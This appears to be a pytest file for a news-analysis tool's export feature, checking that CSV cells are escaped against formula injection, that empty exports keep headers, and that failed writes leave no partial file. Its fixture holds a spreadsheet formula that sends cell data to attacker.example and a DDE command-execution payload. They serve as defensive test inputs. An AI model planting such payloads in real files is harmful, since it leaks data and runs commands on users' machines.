"""Exports a user can open and trust: CSV cells that cannot run as spreadsheet formulas, a
header row even when nothing is exported, and a clear one-line error (never a traceback, never
a half-written file) when the output cannot be written."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from communique.api import build
from communique.errors import ExportError
from communique.serve.app import create_app
from communique.serve.cli import cli
from communique.serve.export import (
    EXPORTS,
    FORMULA_START,
    csv_cell,
    export_columns,
    export_rows,
    write_export,
)
from communique.store.duckdb_store import DuckDBStore
from communique.store.rows import Row

CONTRACT = Path(__file__).resolve().parents[1].parent / "shared" / "docs" / "contract.md"
TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
ARTICLE = f"""{TITLE}

MOSCOW, March 3, 2021 - Russian Foreign Minister Sergei Lavrov accused Ukraine of violating \
the ceasefire on Tuesday.
@SUM(1+1)*cmd|' /C calc'!A0 said the ministry, as Russia threatened Ukraine with sanctions.
+1 Trade between Russia and Belarus reached $3.4 billion in 2020.
-2+3 was the score when Vladimir Putin met Alexander Lukashenko in Sochi on Monday.
"""


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "formula.txt").write_text(ARTICLE, encoding="utf-8")
    db = folder / "f.duckdb"
    assert build([folder], db).added == 1
    return db


@pytest.fixture(scope="module")
def empty_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("empty") / "empty.duckdb"
    DuckDBStore(db).close()  # the schema, no rows
    return db


def _export(db: Path, what: str, *args: str) -> str:
    result = CliRunner().invoke(cli, ["export", what, "--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:e[+-]?\d+)?")  # a spreadsheet reads it as that number


def _runnable(cells: Iterator[str]) -> list[str]:
    """The cells a spreadsheet could run: a formula's first character and not a plain number."""
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def _cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


# -- formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", FORMULA_START)
def test_a_text_cell_that_could_run_gets_an_apostrophe(lead: str) -> None:
    assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"


@pytest.mark.parametrize("value", [-2.0, -7, 0, 3.5, None, True, "Trade rose", "'quoted", " =x"])
def test_numbers_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_lists_and_objects_are_json_text() -> None:
    assert csv_cell(["=1", "b"]) == '["=1", "b"]' and csv_cell({"a": 1}) == '{"a": 1}'


@pytest.mark.parametrize("what", ["documents", "events", "figures", "times"])
def test_no_exported_cell_starts_a_formula(hostile_db: Path, what: str) -> None:
    text = _export(hostile_db, what, "--format", "csv")
    assert text.count("\n") > 1 and not _runnable(_cells(text))


def test_the_hostile_text_is_kept_whole_behind_the_apostrophe(hostile_db: Path) -> None:
    (doc,) = csv.DictReader(io.StringIO(_export(hostile_db, "documents", "--format", "csv")))
    assert doc["title"] == "'" + TITLE
    events = list(csv.DictReader(io.StringIO(_export(hostile_db, "events", "--format", "csv"))))
    assert any(e["sentence"].startswith("'-2+3 was the score") for e in events)
    # the JSON Lines export keeps every value exactly
    (line,) = _export(hostile_db, "documents").splitlines()
    assert json.loads(line)["title"] == TITLE


def test_negative_numbers_stay_numbers(hostile_db: Path) -> None:
    events = list(csv.DictReader(io.StringIO(_export(hostile_db, "events", "--format", "csv"))))
    scores = [float(e["goldstein"]) for e in events]  # each parses: no apostrophe
    assert min(scores) < 0, scores


def test_server_downloads_are_guarded_too(hostile_db: Path) -> None:
    client = TestClient(create_app(hostile_db))
    for name in ("documents", "events", "figures", "timeline"):
        r = client.get(f"/{name}.csv")
        assert r.status_code == 200, name
        assert r.text.count("\n") > 1 and not _runnable(_cells(r.text)), name
    assert "'-2+3 was the score" in client.get("/events.csv").text


# -- empty exports and columns ---------------------------------------------------------------


def _contract_fields() -> dict[str, set[str]]:
    """The fields the contract names for each export, read from ``shared/docs/contract.md``."""
    fields: dict[str, set[str]] = {}
    section = None
    for line in CONTRACT.read_text(encoding="utf-8").splitlines():
        if m := re.match(r"## (\w+)", line):
            section = m.group(1)
        elif section and (m := re.match(r"\| ([a-z_, ]+) \|", line)) and m.group(1) != "field":
            fields.setdefault(section, set()).update(f.strip() for f in m.group(1).split(","))
    return fields


def test_columns_hold_the_contract_and_match_the_rows(seeds_store: Path) -> None:
    contract = _contract_fields()
    assert {"documents", "events", "timeline", "times"} <= set(contract)
    with DuckDBStore(seeds_store, read_only=True) as store:
        for what in EXPORTS:
            columns = export_columns(store, what)
            assert contract.get(what, set()) <= set(columns), what
            first = next(iter(export_rows(store, what)), None)
            if first is not None:
                assert list(first) == columns, what


@pytest.mark.parametrize("what", EXPORTS)
def test_an_empty_csv_export_is_its_header(empty_db: Path, what: str) -> None:
    text = _export(empty_db, what, "--format", "csv")
    with DuckDBStore(empty_db, read_only=True) as store:
        columns = export_columns(store, what)
    assert list(csv.reader(io.StringIO(text))) == [columns]


def test_an_empty_parquet_export_has_the_columns(empty_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "c.parquet"
    _export(empty_db, "contradictions", "--format", "parquet", "-o", str(out))
    table = pq.read_table(out)
    assert table.num_rows == 0 and "contradiction_id" in table.column_names


def test_an_empty_download_is_its_header(empty_db: Path) -> None:
    r = TestClient(create_app(empty_db)).get("/contradictions.csv")
    assert r.status_code == 200
    (header,) = list(csv.reader(io.StringIO(r.text)))
    assert header[:3] == ["contradiction_id", "kind", "subject"]


# -- where the file goes ---------------------------------------------------------------------


def test_a_missing_folder_is_one_clear_line(
    seeds_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        cli, ["export", "events", "--db", str(seeds_store), "-o", "missing-folder/x.jsonl"]
    )
    assert result.exit_code != 0
    lines = result.output.strip().splitlines()
    assert len(lines) == 1, result.output
    assert "missing-folder/x.jsonl" in lines[0] and "does not exist" in lines[0]
    assert "Traceback" not in result.output and not isinstance(result.exception, OSError)
    assert list(tmp_path.iterdir()) == []  # no folder made, no file left


def test_a_folder_as_output_is_refused(seeds_store: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["export", "events", "--db", str(seeds_store),
                                      "-o", str(tmp_path)])  # fmt: skip
    assert result.exit_code != 0 and "it is a folder" in result.output


def test_the_file_is_written(seeds_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(
        cli, ["export", "events", "--db", str(seeds_store), "--format", "csv", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and f"wrote {len(rows)} events rows to {out}" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]


def test_a_failed_export_leaves_the_earlier_file_whole(tmp_path: Path) -> None:
    out = tmp_path / "x.jsonl"
    out.write_text("the earlier export\n", encoding="utf-8")

    def rows() -> Iterator[Row]:
        yield {"a": 1}
        raise ExportError("the database went away")

    with pytest.raises(ExportError):
        write_export(rows(), "jsonl", out)
    assert out.read_text(encoding="utf-8") == "the earlier export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["x.jsonl"]  # no part file left
